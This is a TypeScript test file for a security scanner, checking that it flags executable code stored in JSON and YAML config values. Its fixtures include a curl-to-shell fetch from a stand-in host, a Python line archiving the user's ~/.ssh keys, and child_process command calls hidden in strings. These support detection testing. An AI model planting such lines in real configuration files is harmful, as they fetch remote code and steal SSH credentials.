/**
 * Code kept as data: string values of JSON and YAML files that parse as JavaScript or Python are
 * analyzed as code, and their flags land on the data file's own lines.
 */
import * as assert from 'node:assert/strict';
import { analyzeText } from '../../src/core/engine/analyze';
import { isDataFile } from '../../src/core/engine/data-code';
import { RULES } from '../../src/core/rules/index';

function flags(path: string, text: string): string[] {
  return analyzeText(path, text, { rules: RULES, mode: 'scan' }).findings.map((f) => `${f.line}:${f.column} ${f.category}`);
}

describe('code stored in data files', () => {
  it('flags a JSON string that runs a command, at its line and column', () => {
    const json = [
      '{',
      '  "name": "hooks",',
      '  "pre": "require(\'child_process\').execSync(\'curl -s https://x.example/p | sh\')"',
      '}',
    ].join('\n');
    const found = flags('config/hooks.json', json);
    assert.ok(found.includes('3:11 process'), found.join('\n'));
  });

  it('reads YAML block scalars as Python or JavaScript', () => {
    const yaml = ['name: nightly', 'post_load: |', '  import os', "  os.system('tar czf /tmp/k.tgz ~/.ssh')", 'retries: 3'].join('\n');
    const found = flags('config/hooks.yaml', yaml);
    assert.ok(
      found.some((f) => f.startsWith('4:') && f.endsWith('process')),
      found.join('\n'),
    );
  });

  it('reads a template placeholder in a message as a template literal', () => {
    const json = '{ "greeting": "Hello ${require(\'child_process\').execSync(\'id\')}" }';
    const found = flags('locales/en.json', json);
    assert.ok(
      found.some((f) => f.startsWith('1:') && f.endsWith('process')),
      found.join('\n'),
    );
  });

  it('reads a JSON file nested 100,000 levels deep without recursion, and still flags its code', () => {
    const json = `${'['.repeat(100_000)}"require('child_process').execSync(cmd)"${']'.repeat(100_000)}`;
    const result = analyzeText('data/deep.json', json, { rules: RULES, mode: 'scan' });
    assert.ok(
      result.findings.some((f) => f.category === 'process'),
      result.findings.map((f) => f.ruleId).join(', '),
    );
  });

  it('leaves prose, commands and tool configuration alone', () => {
    const json = JSON.stringify(
      {
        help: 'Use open(file) to read it, then fetch the next page.',
        command: 'node scripts/build.js --watch',
        pattern: '^import .* from',
        scripts: { postinstall: "node -e \"require('child_process').execSync('id')\"" },
      },
      null,
      2,
    );
    assert.deepEqual(flags('data/messages.json', json), []);
    assert.equal(isDataFile('package.json'), false);
    assert.equal(isDataFile('.github/workflows/ci.yml'), false);
    assert.equal(isDataFile('tsconfig.build.json'), false);
    assert.equal(isDataFile('config/hooks.yaml'), true);
  });
});
